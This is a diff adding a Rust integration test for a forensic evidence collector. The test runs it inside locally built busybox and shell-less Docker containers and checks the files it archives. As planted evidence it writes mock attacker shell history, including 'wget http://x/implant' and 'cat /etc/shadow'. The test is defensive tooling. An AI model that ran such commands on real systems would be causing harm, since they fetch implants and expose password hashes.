@@ -1,0 +1,258 @@
+//! The static collector inside real Docker containers built locally (no registry): a
+//! busybox image as root, the same as uid 1000 with a read-only root, and a
+//! distroless-like image with no shell. The archive leaves through `docker exec ...
+//! --output -` and must verify and hold the files planted in the container.
+//!
+//! Needs `CAIRN_MUSL_BIN` (the static binary; `tests/run-all.sh` builds it) and a
+//! Docker daemon. Under CI (`CI=true`) their absence fails the test; locally it skips loudly.
+
+mod common;
+use common::*;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+fn require(what: &str) -> bool {
+    if std::env::var("CI").as_deref() == Ok("true") {
+        panic!("{what} is required under CI=true");
+    }
+    eprintln!("\n!!!!! SKIPPING container test: {what} is missing (run tests/run-all.sh) !!!!!\n");
+    false
+}
+
+fn docker(args: &[&str]) -> std::process::Output {
+    Command::new("docker")
+        .args(args)
+        .output()
+        .expect("docker CLI")
+}
+
+fn ok(args: &[&str]) -> String {
+    let o = docker(args);
+    assert!(
+        o.status.success(),
+        "docker {args:?}: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    String::from_utf8_lossy(&o.stdout).trim().to_owned()
+}
+
+fn setup() -> Option<PathBuf> {
+    let bin = match std::env::var("CAIRN_MUSL_BIN") {
+        Ok(b) if Path::new(&b).is_file() => PathBuf::from(b),
+        _ => {
+            require("CAIRN_MUSL_BIN (static musl collector)");
+            return None;
+        }
+    };
+    let daemon = Command::new("docker")
+        .arg("info")
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status();
+    if !daemon.map(|s| s.success()).unwrap_or(false) {
+        require("a running Docker daemon");
+        return None;
+    }
+    Some(bin)
+}
+
+/// A busybox image from Debian's busybox-static, built once per machine.
+fn busybox_image() -> &'static str {
+    const IMG: &str = "cairn-test-busybox:1";
+    if docker(&["image", "inspect", IMG]).status.success() {
+        return IMG;
+    }
+    let t = tempfile::tempdir().unwrap();
+    let r = t.path();
+    for d in [
+        "bin", "sbin", "usr/bin", "usr/sbin", "etc", "tmp", "root", "home/app", "var/log", "proc",
+        "sys", "dev",
+    ] {
+        std::fs::create_dir_all(r.join(d)).unwrap();
+    }
+    std::fs::copy("/bin/busybox", r.join("bin/busybox")).expect("busybox-static installed");
+    let st = Command::new("chroot")
+        .arg(r)
+        .args(["/bin/busybox", "--install", "-s", "/bin"])
+        .status()
+        .unwrap();
+    assert!(st.success());
+    std::fs::write(
+        r.join("etc/passwd"),
+        "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000:app:/home/app:/bin/sh\n",
+    )
+    .unwrap();
+    std::fs::write(r.join("etc/group"), "root:x:0:\napp:x:1000:\n").unwrap();
+    // Evidence baked into the image: a root-only history and a world-readable log.
+    std::fs::write(r.join("root/.bash_history"), "image-history\n").unwrap();
+    std::fs::write(r.join("var/log/image.log"), "baked log line\n").unwrap();
+    let sh = format!(
+        "chmod 1777 {r}/tmp && chmod 700 {r}/root && chmod 600 {r}/root/.bash_history && chown 1000:1000 {r}/home/app && chmod 777 {r}/var/log && tar -C {r} --numeric-owner -cf {r}.tar . && docker import -c 'CMD [\"/bin/sh\"]' -c 'ENV PATH=/bin:/sbin:/usr/bin:/usr/sbin' {r}.tar {IMG} >/dev/null && rm -f {r}.tar",
+        r = r.display()
+    );
+    let st = Command::new("sh").arg("-c").arg(sh).status().unwrap();
+    assert!(st.success(), "building {IMG}");
+    IMG
+}
+
+struct Container(String);
+impl Drop for Container {
+    fn drop(&mut self) {
+        let _ = docker(&["rm", "-f", &self.0]);
+    }
+}
+
+fn collect_via_exec(ct: &str, exe: &str, user: Option<&str>, dir: &Path) -> PathBuf {
+    let out = dir.join(format!("{ct}.tar.zst"));
+    let f = std::fs::File::create(&out).unwrap();
+    let mut args = vec!["exec".to_owned()];
+    if let Some(u) = user {
+        args.extend(["--user".to_owned(), u.to_owned()]);
+    }
+    args.extend([
+        ct.to_owned(),
+        exe.to_owned(),
+        "collect".into(),
+        "--output".into(),
+        "-".into(),
+        "--progress".into(),
+        "json".into(),
+    ]);
+    let o = Command::new("docker")
+        .args(&args)
+        .stdout(f)
+        .stderr(Stdio::piped())
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(o.status.success(), "collect in {ct}: {err}");
+    assert!(err.contains("\"event\":\"done\""), "{err}");
+    verify_ok(&out);
+    out
+}
+
+#[test]
+fn busybox_as_root_and_as_uid_1000_read_only() {
+    let Some(bin) = setup() else { return };
+    let img = busybox_image();
+    let dir = tempfile::tempdir().unwrap();
+    let vol = format!("{}:/opt/cairn/cairn-collector:ro", bin.display());
+
+    let name = format!("cairn-bb-root-{}", std::process::id());
+    ok(&[
+        "run",
+        "-d",
+        "--network",
+        "none",
+        "--name",
+        &name,
+        "-v",
+        &vol,
+        img,
+        "sleep",
+        "3600",
+    ]);
+    let _c = Container(name.clone());
+    ok(&["exec", &name, "sh", "-c", "echo 'wget http://x/implant' >> /root/.bash_history; echo 'app started' > /var/log/app.log; echo payload > /tmp/dropped.sh"]);
+    let out = collect_via_exec(&name, "/opt/cairn/cairn-collector", None, dir.path());
+    let a = Archive::read(&out);
+    assert_eq!(
+        a.text("files/root/.bash_history"),
+        "image-history\nwget http://x/implant\n"
+    );
+    assert_eq!(a.text("files/var/log/app.log"), "app started\n");
+    assert_eq!(a.text("files/tmp/dropped.sh"), "payload\n");
+    assert_eq!(a.summary()["identity"]["docker"], true);
+    assert_eq!(a.summary()["live"], true);
+
+    let name = format!("cairn-bb-1000-{}", std::process::id());
+    ok(&[
+        "run",
+        "-d",
+        "--network",
+        "none",
+        "--user",
+        "1000",
+        "--read-only",
+        "--tmpfs",
+        "/tmp",
+        "--name",
+        &name,
+        "-v",
+        &vol,
+        img,
+        "sleep",
+        "3600",
+    ]);
+    let _c2 = Container(name.clone());
+    ok(&["exec", &name, "sh", "-c", "echo 'cat /etc/shadow' > /home/app/.ash_history; echo 'tmp evidence' > /tmp/note.txt; echo line >> /var/log/image.log 2>/dev/null; true"]);
+    let out = collect_via_exec(&name, "/opt/cairn/cairn-collector", None, dir.path());
+    let a = Archive::read(&out);
+    assert_eq!(a.text("files/home/app/.ash_history"), "cat /etc/shadow\n");
+    assert_eq!(a.text("files/tmp/note.txt"), "tmp evidence\n");
+    assert_eq!(a.text("files/var/log/image.log"), "baked log line\n");
+    // uid 1000 cannot enter /root: recorded as a denial, not a failure.
+    assert!(
+        a.log()
+            .iter()
+            .any(|l| l["event"] == "denied" && l["path"] == "/root"),
+        "{:?}",
+        a.log()
+    );
+}
+
+#[test]
+fn distroless_like_image_without_a_shell() {
+    let Some(bin) = setup() else { return };
+    let dir = tempfile::tempdir().unwrap();
+    let ctx = dir.path().join("ctx");
+    for d in ["etc", "tmp", "var/log/app"] {
+        std::fs::create_dir_all(ctx.join(d)).unwrap();
+    }
+    std::fs::copy(&bin, ctx.join("cairn-collector")).unwrap();
+    std::fs::write(
+        ctx.join("etc/passwd"),
+        "root:x:0:0:root:/root:/sbin/nologin\nnonroot:x:65532:65532::/home/nonroot:/sbin/nologin\n",
+    )
+    .unwrap();
+    std::fs::write(ctx.join("var/log/app/server.log"), "distroless log line\n").unwrap();
+    std::fs::write(
+        ctx.join("Dockerfile"),
+        "FROM scratch\nCOPY . /\nUSER 65532\nENTRYPOINT [\"/cairn-collector\"]\n",
+    )
+    .unwrap();
+    let img = "cairn-test-distroless:1";
+    let st = Command::new("docker")
+        .args(["build", "-q", "-t", img, ctx.to_str().unwrap()])
+        .env("DOCKER_BUILDKIT", "0")
+        .stdout(Stdio::null())
+        .status()
+        .unwrap();
+    assert!(st.success(), "docker build of the distroless-like image");
+    let name = format!("cairn-distroless-{}", std::process::id());
+    // The image has nothing but the collector; `verify -` blocking on the open stdin
+    // stands in for the application process so the container stays up for exec.
+    ok(&[
+        "run",
+        "-d",
+        "-i",
+        "--network",
+        "none",
+        "--name",
+        &name,
+        img,
+        "verify",
+        "-",
+    ]);
+    let _c = Container(name.clone());
+    let sh = docker(&["exec", &name, "sh", "-c", "true"]);
+    assert!(!sh.status.success(), "the image must have no shell");
+    let out = collect_via_exec(&name, "/cairn-collector", None, dir.path());
+    let a = Archive::read(&out);
+    assert_eq!(
+        a.text("files/var/log/app/server.log"),
+        "distroless log line\n"
+    );
+    assert!(a.text("files/etc/passwd").contains("nonroot"));
+    assert_eq!(a.summary()["collector"]["uid"], 65532);
+}
